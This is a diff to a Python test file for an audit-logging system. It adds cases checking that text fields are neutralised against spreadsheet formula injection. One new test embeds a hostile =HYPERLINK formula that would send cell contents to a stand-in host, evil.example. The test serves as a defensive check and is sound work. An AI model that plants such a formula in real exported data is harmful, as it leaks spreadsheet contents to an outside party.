@@ -334,10 +334,34 @@ def test_hostile_text_forges_no_lines_and_fits_its_columns(
         ("한글", 6, False, "한글"),
         ("한글", 5, False, "한"),
         ("a\u00a0b", 5, False, "a?b"),
+        *((f"{sign}1+1", 9, False, f"'{sign}1+1") for sign in "=+-@＝＋－＠"),
+        *((f"{sign}1+1", 4, True, f"'{sign}1+") for sign in "=+-@"),
+        ("=", 1, True, "'"),
+        ("\t=1", 9, True, "?=1"),
+        ("\r=1", 9, True, "?=1"),
+        ("'=1", 9, True, "'=1"),
+        (" =1", 9, True, " =1"),
+        ("1-1=0", 9, True, "1-1=0"),
     ],
 )
 def test_what_is_kept_of_a_text(value: str | None, length: int, ascii_only: bool, kept: str | None) -> None:
     assert printable(value, length, ascii_only=ascii_only) == kept
+
+
+@pytest.mark.parametrize("sign", "=+-@＝＋－＠\t\r")
+def test_no_text_of_a_record_is_a_formula_to_a_spreadsheet(engine: Engine, origin: Origin, sign: str) -> None:
+    text = f'{sign}HYPERLINK("https://evil.example/?"&A1)'
+    hostile = dataclasses.replace(origin, source=text, user_agent=text, request_id=text)
+    with Transaction(engine) as tx:
+        AuditRecorder().record(
+            tx, AuditEvent.LOGIN_FAILED, hostile, actor=text, resource_type="users", resource_id=text, name=text,
+            nested=[{text: text}],
+        )  # fmt: skip
+    (record,) = events_on(engine)
+    ((nested_name, nested_value),) = record["metadata"]["nested"][0].items()
+    kept = [record[name] for name in ("actor", "resource_id", "ip_address", "user_agent", "request_id")]
+    for value in (*kept, record["metadata"]["name"], nested_name, nested_value):
+        assert value[0] not in "=+-@＝＋－＠\t\r", value
 
 
 def test_records_outlive_the_user_they_are_about(engine: Engine, services: Services, origin: Origin, ana: User) -> None:
